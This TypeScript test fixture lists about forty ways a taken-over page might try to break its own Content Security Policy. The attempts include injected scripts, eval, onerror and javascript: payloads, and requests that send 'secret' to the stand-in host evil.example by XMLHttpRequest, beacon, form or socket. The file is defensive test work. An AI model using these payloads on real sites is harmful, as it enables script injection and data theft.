/** What a page that was taken over would try against its own policy. Each runs in the page and names nothing outside. */
export interface Attempt {
  readonly name: string
  run(): unknown
}

/** A try that gets through sets `escaped` on the window, or sends a request. */
export const attempts: readonly Attempt[] = [
  {
    name: 'an inline script',
    run: () => {
      const script = document.createElement('script')
      script.appendChild(document.createTextNode('window.escaped = true'))
      document.body.append(script)
    },
  },
  {
    name: 'a script of another host',
    run: () => {
      const script = document.createElement('script')
      script.setAttribute('src', 'https://evil.example/x.js')
      document.body.append(script)
    },
  },
  {
    name: 'a script in a data: address',
    run: () => {
      const script = document.createElement('script')
      script.setAttribute('src', 'data:text/javascript,window.escaped=true')
      document.body.append(script)
    },
  },
  {
    name: 'a script in a blob',
    run: () => {
      const script = document.createElement('script')
      script.setAttribute('src', URL.createObjectURL(new Blob(['window.escaped=true'], { type: 'text/javascript' })))
      document.body.append(script)
    },
  },
  {
    name: 'an inline handler',
    run: () => {
      const button = document.createElement('button')
      button.setAttribute('onclick', 'window.escaped = true')
      document.body.append(button)
      button.click()
    },
  },
  { name: 'eval', run: () => (0, eval)('window.escaped = true') as unknown },
  { name: 'a function made of text', run: () => new Function('window.escaped = true')() as unknown },
  {
    name: 'a timer made of text',
    run: () => (setTimeout as unknown as (text: string) => number)('window.escaped = true'),
  },
  ...['https://evil.example/x.js', 'data:text/javascript,window.escaped=true'].map((address) => ({
    name: `an import of ${address}`,
    // As text, because the test's own tools rewrite imports.
    run: new Function(`return import(${JSON.stringify(address)})`) as () => unknown,
  })),
  { name: 'innerHTML', run: () => (document.body.innerHTML += '<img src=x onerror="window.escaped=true">') },
  {
    name: 'insertAdjacentHTML',
    run: () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.escaped=true">'),
  },
  {
    name: 'document.write',
    run: () => (document as unknown as Record<string, (text: string) => void>)['write']?.('<script>1</script>'),
  },
  {
    name: 'markup read as a document',
    run: () => new DOMParser().parseFromString('<svg onload="window.escaped=true"/>', 'text/html'),
  },
  {
    name: 'markup in a range',
    run: () => document.createRange().createContextualFragment('<script>window.escaped=true</script>'),
  },
  { name: 'a policy of its own for markup', run: () => trustedPolicy('mine') },
  { name: "Vue's policy a second time", run: () => trustedPolicy('vue') },
  {
    name: 'a picture of another host',
    run: () => {
      const image = document.createElement('img')
      image.src = 'https://evil.example/x.png'
      document.body.append(image)
    },
  },
  {
    name: 'an inline style sheet',
    run: () => {
      const style = document.createElement('style')
      style.append('body { background: red }')
      document.body.append(style)
    },
  },
  {
    name: 'a style attribute',
    run: () => document.body.setAttribute('style', 'background: url(https://evil.example/x.png)'),
  },
  {
    name: 'a style sheet of another host',
    run: () => {
      const link = document.createElement('link')
      link.rel = 'stylesheet'
      link.href = 'https://evil.example/x.css'
      document.head.append(link)
    },
  },
  {
    name: 'a font of another host',
    run: () => {
      // What comes is no font, policy or not: only whether it is asked for counts.
      new FontFace('evil', 'url(https://evil.example/x.woff2)').load().catch(() => undefined)
    },
  },
  { name: 'fetch', run: () => fetch('https://evil.example/') },
  {
    name: 'an XMLHttpRequest',
    run: () => {
      const request = new XMLHttpRequest()
      request.open('POST', 'https://evil.example/')
      request.send('secret')
    },
  },
  { name: 'a socket', run: () => new WebSocket('wss://evil.example/') },
  { name: 'an event source', run: () => new EventSource('https://evil.example/') },
  { name: 'a beacon', run: () => navigator.sendBeacon('https://evil.example/', 'secret') },
  ...['https://evil.example/', 'data:text/html,x', 'javascript:parent.escaped=true'].map((address) => ({
    name: `a frame of ${address}`,
    run: new Function(`
      const frame = document.createElement('iframe')
      frame.src = ${JSON.stringify(address)}
      document.body.append(frame)
    `) as () => unknown,
  })),
  {
    name: 'an object',
    run: () => {
      const object = document.createElement('object')
      object.data = 'https://evil.example/x.swf'
      document.body.append(object)
    },
  },
  {
    name: 'an embedded page',
    run: () => {
      const embed = document.createElement('embed')
      embed.setAttribute('src', 'https://evil.example/x.pdf')
      document.body.append(embed)
    },
  },
  {
    name: 'another base address',
    run: () => {
      const base = document.createElement('base')
      base.href = 'https://evil.example/'
      document.head.append(base)
      // Asked for by its own address as long as the base was refused.
      if (!document.baseURI.includes('evil.example')) throw new Error('refused')
    },
  },
  {
    name: 'a form',
    run: () => {
      const form = document.createElement('form')
      form.action = 'https://evil.example/'
      form.method = 'post'
      document.body.append(form)
      form.submit()
    },
  },
  { name: 'a worker in a blob', run: () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))) },
  {
    name: 'a film',
    run: () => {
      const video = document.createElement('video')
      video.src = 'https://evil.example/x.mp4'
      document.body.append(video)
    },
  },
  { name: 'WebAssembly', run: () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])) },
  {
    name: 'a link that is a script',
    run: () => {
      const link = document.createElement('a')
      link.href = 'javascript:window.escaped=true'
      document.body.append(link)
      link.click()
    },
  },
]

/** Only named here; in the page a function of the same name stands ready. */
declare function trustedPolicy(name: string): unknown
